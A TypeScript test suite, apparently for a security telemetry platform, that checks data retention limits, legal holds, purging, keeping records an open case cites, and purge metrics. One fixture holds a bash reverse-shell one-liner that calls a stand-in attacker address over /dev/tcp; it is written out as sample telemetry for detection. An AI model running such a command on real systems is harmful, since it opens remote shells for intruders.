// Telemetry retention through the API and the purger, on each database: the tenant's policy
// within the operator's range, the legal hold, purging (PostgreSQL: whole day partitions),
// evidence an open case cites kept until the case closes, and the usage and purge figures.
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'kysely';
import { databaseTargets } from '../helpers/databases.js';
import { apiSuite } from '../helpers/suite.js';
import {
  apiClient,
  bearer,
  detectionCaughtUp,
  expectProblem,
  ingest,
  issueToken,
  signIn,
  type ApiClient,
  type Session,
} from '../helpers/api.js';
import { appRecord } from '../helpers/factories.js';
import { searchAll } from '../helpers/telemetry.js';
import { runCli } from '../helpers/cli.js';
import type { TestDatabase } from '../helpers/databases.js';
import { allPermissions } from '../../src/identity/permissions.js';
import type { TenantRetention } from '../../src/retention/retention-service.js';

const DAY = 86_400_000;

const storage = (database: TestDatabase) => [
  '--data',
  database.dataDir,
  ...(database.databaseUrl ? ['--database', database.databaseUrl] : []),
];

/** A Linux reverse shell in the generic process shape: detection makes it an observation and a case. */
function reverseShell(host: string): Record<string, unknown> {
  return {
    type: 'process',
    timestamp: new Date().toISOString(),
    host,
    os: 'linux',
    user: 'www-data',
    process: {
      name: 'bash',
      pid: 31337,
      executable: '/bin/bash',
      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    },
    parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
  };
}

for (const target of databaseTargets) {
  describe(`retention on ${target.kind}`, { skip: target.skip }, () => {
    const suite = apiSuite(target);
    let acme: ApiClient;
    let globex: ApiClient;
    let reader: ApiClient;
    let operator: Session;
    const asOperator = { 'x-csrf-token': '' };

    before(async () => {
      acme = apiClient(suite.server, bearer((await issueToken(suite.server, suite.acme, allPermissions)).value));
      globex = apiClient(suite.server, bearer((await issueToken(suite.server, suite.globex, allPermissions)).value));
      reader = apiClient(suite.server, bearer((await issueToken(suite.server, suite.acme, ['retention:read'])).value));
      operator = await signIn(suite.server, {
        tenant: null,
        role: 'operator',
        email: `op-${target.kind}@platform.example`,
      });
      asOperator['x-csrf-token'] = operator.csrf;
    });

    test('a tenant keeps raw telemetry 30 days by default and may choose within the operator’s range', async () => {
      const initial = await reader.get<TenantRetention>('/v1/retention');
      assert.equal(initial.status, 200, JSON.stringify(initial.body));
      assert.equal(initial.body.telemetry_days, null);
      assert.equal(initial.body.effective_days, 30);
      assert.deepEqual(initial.body.limits, { min_days: 1, max_days: 3650, default_days: 30 });
      assert.equal(initial.body.legal_hold, false);

      expectProblem(await reader.patch('/v1/retention', { telemetry_days: 7 }), 403, 'permission_denied');
      const tooLong = expectProblem(
        await acme.patch('/v1/retention', { telemetry_days: 4000 }),
        400,
        'retention_out_of_range',
      );
      assert.match(tooLong.detail, /from 1 to 3650/);
      expectProblem(await acme.patch('/v1/retention', { telemetry_days: 0 }), 400, 'retention_out_of_range');
      expectProblem(await acme.patch('/v1/retention', {}), 400, 'invalid_request');

      const changed = await acme.patch<TenantRetention>('/v1/retention', { telemetry_days: 90 });
      assert.equal(changed.status, 200, JSON.stringify(changed.body));
      assert.equal(changed.body.effective_days, 90);

      // The operator narrows the range: acme's 90 days now count as the new maximum.
      const narrowed = await operator.client.patch('/v1/operator/retention/limits', { max_days: 60 }, asOperator);
      assert.equal(narrowed.status, 200, JSON.stringify(narrowed.body));
      assert.equal((await reader.get<TenantRetention>('/v1/retention')).body.effective_days, 60);
      expectProblem(await acme.patch('/v1/retention', { telemetry_days: 61 }), 400, 'retention_out_of_range');
      expectProblem(
        await operator.client.patch('/v1/operator/retention/limits', { default_days: 90 }, asOperator),
        400,
        'invalid_request',
      );
      expectProblem(await acme.patch('/v1/operator/retention/limits', { max_days: 90 }), 403, 'operator_required');
      assert.equal(
        (await operator.client.patch('/v1/operator/retention/limits', { max_days: 3650 }, asOperator)).status,
        200,
      );

      const audit = await acme.get<{ events: { action: string; details: Record<string, unknown> }[] }>(
        '/v1/audit-events?limit=50',
      );
      assert.equal(audit.status, 200, JSON.stringify(audit.body));
      const event = audit.body.events.find((item) => item.action === 'retention.changed');
      assert.deepEqual(event?.details.telemetry_days, { from: null, to: 90 });
    });

    test('the purger deletes expired records, keeps evidence of an open case until it closes, and a legal hold suspends it', async () => {
      await acme.patch('/v1/retention', { telemetry_days: 7 });
      await globex.patch('/v1/retention', { telemetry_days: 7 });
      // Every tenant (the first-start one too) at seven days, so whole days can expire for all.
      assert.equal(
        (await operator.client.patch('/v1/operator/retention/limits', { default_days: 7 }, asOperator)).status,
        200,
      );
      expectProblem(await globex.patch('/v1/retention', { legal_hold: true }), 400, 'invalid_request');
      const held = await globex.patch<TenantRetention>('/v1/retention', {
        legal_hold: true,
        legal_hold_reason: 'Matter 114',
      });
      assert.equal(held.body.legal_hold, true);

      await ingest(
        suite.server,
        [...Array.from({ length: 300 }, () => appRecord()), reverseShell('web-ret-1')],
        'acme',
      );
      await ingest(
        suite.server,
        Array.from({ length: 200 }, () => appRecord()),
        'globex',
      );
      await detectionCaughtUp(suite.server);
      const observations = await acme.get<{ observations: { record_ids: string[] }[] }>('/v1/observations?limit=100');
      assert.equal(observations.status, 200, JSON.stringify(observations.body));
      const cited = new Set(observations.body.observations.flatMap((item) => item.record_ids));
      assert.ok(cited.size >= 1, 'the reverse shell became an observation that cites its record');
      const cases = await acme.post<{ cases: { id: string; version: number }[] }>('/v1/cases', { text: 'web-ret-1' });
      assert.equal(cases.body.cases.length, 1, JSON.stringify(cases.body));

      // Ten days on, every record of both tenants is past its seven days.
      const later = Date.now() + 10 * DAY;
      const first = await suite.server.sightline.retention.runPass(later);
      assert.equal(first.ran, true);
      assert.deepEqual(first.held, ['globex']);
      const kept = (await searchAll(acme, { limit: 1000 })).records;
      assert.deepEqual(
        kept.map((record) => record.id).sort(),
        [...cited].sort(),
        'only the records the open case cites are left',
      );
      assert.equal((await searchAll(globex, { limit: 1000 })).records.length, 200, 'the held tenant keeps everything');
      assert.equal(
        (await acme.post<{ records: unknown[] }>('/v1/telemetry/search', { query: 'checkout', limit: 10 })).body.records
          .length,
        0,
      );

      const retention = await acme.get<TenantRetention>('/v1/retention');
      assert.equal(retention.body.purged_records, 300);
      assert.equal(retention.body.usage.records, cited.size);
      assert.ok((retention.body.usage.bytes ?? 0) > 0);
      assert.match(await suite.server.metrics(), /sightline_retention_purged_records_total\{tenant="acme"\} 300/);
      assert.match(
        await suite.server.metrics(),
        /sightline_retention_oldest_record_timestamp_seconds\{tenant="acme"\} \d/,
      );

      // The hold lifted while the case is still open: globex's records go, acme's evidence stays
      // (on PostgreSQL the whole expired day is dropped, the cited rows moved out first).
      await globex.patch('/v1/retention', { legal_hold: false });
      const second = await suite.server.sightline.retention.runPass(later);
      assert.equal(second.purged.globex, 200);
      assert.equal((await searchAll(globex, { limit: 1000 })).records.length, 0);
      assert.deepEqual(
        (await searchAll(acme, { limit: 1000 })).records.map((record) => record.id).sort(),
        [...cited].sort(),
      );
      const { db } = suite.server.sightline.database;
      if (target.kind === 'postgres') {
        const partitions = await sql<{ name: string }>`
          SELECT c.relname AS name FROM pg_inherits i JOIN pg_class c ON c.oid = i.inhrelid
          WHERE i.inhparent = to_regclass('telemetry_records')`.execute(db);
        const names = partitions.rows.map((row) => row.name);
        assert.ok(!names.includes('telemetry_records_legacy'), `the expired day was dropped: ${names.join(', ')}`);
        assert.ok(second.partitionRecords >= 200, JSON.stringify(second));
      }

      const open = cases.body.cases[0]!;
      const closed = await acme.patch(`/v1/cases/${open.id}`, {
        version: open.version,
        status: 'closed',
        resolution: 'true_positive',
      });
      assert.equal(closed.status, 200, JSON.stringify(closed.body));
      const third = await suite.server.sightline.retention.runPass(later);
      assert.equal(third.purged.acme, cited.size);
      assert.equal((await searchAll(acme, { limit: 1000 })).records.length, 0);
      // The case and its observations stay: only raw telemetry is purged.
      assert.equal((await acme.get(`/v1/cases/${open.id}`)).status, 200);

      const overview = await operator.client.get<{ tenants: { code_name: string; purged_records: number }[] }>(
        '/v1/operator/retention',
      );
      assert.equal(overview.body.tenants.find((tenant) => tenant.code_name === 'globex')?.purged_records, 200);
      if (target.kind === 'sqlite')
        await sql`INSERT INTO telemetry_fts (telemetry_fts) VALUES ('integrity-check')`.execute(db);
      assert.equal(
        (await operator.client.patch('/v1/operator/retention/limits', { default_days: 30 }, asOperator)).status,
        200,
      );
    });

    test('records that are not yet past the tenant’s retention stay', async () => {
      await acme.patch('/v1/retention', { telemetry_days: 30 });
      await ingest(
        suite.server,
        Array.from({ length: 50 }, () => appRecord()),
        'acme',
      );
      await detectionCaughtUp(suite.server);
      const pass = await suite.server.sightline.retention.runPass(Date.now() + 10 * DAY);
      assert.equal(pass.purged.acme, 0);
      assert.equal((await searchAll(acme, { limit: 1000 })).records.length, 50);
      const cli = await runCli(['retention', 'show', '--tenant', 'acme', ...storage(suite.database)]);
      assert.equal(cli.code, 0, cli.stderr);
      assert.equal((JSON.parse(cli.stdout) as TenantRetention).effective_days, 30);
      const refused = await runCli([
        'retention',
        'set',
        '--tenant',
        'acme',
        '--days',
        '9999',
        ...storage(suite.database),
      ]);
      assert.equal(refused.code, 1);
      assert.match(
        refused.stderr,
        /error \(retention_out_of_range\): telemetry_days must be a whole number of days from 1 to 3650/,
      );
      const hold = await runCli([
        'retention',
        'set',
        '--tenant',
        'acme',
        '--legal-hold',
        'on',
        '--reason',
        'Matter 7',
        ...storage(suite.database),
      ]);
      assert.equal(hold.code, 0, hold.stderr);
      assert.equal((await reader.get<TenantRetention>('/v1/retention')).body.legal_hold_reason, 'Matter 7');
      const purge = await runCli(['retention', 'purge', ...storage(suite.database)]);
      assert.equal(purge.code, 0, purge.stderr);
      assert.deepEqual((JSON.parse(purge.stdout) as { held: string[] }).held, ['acme']);
    });
  });
}
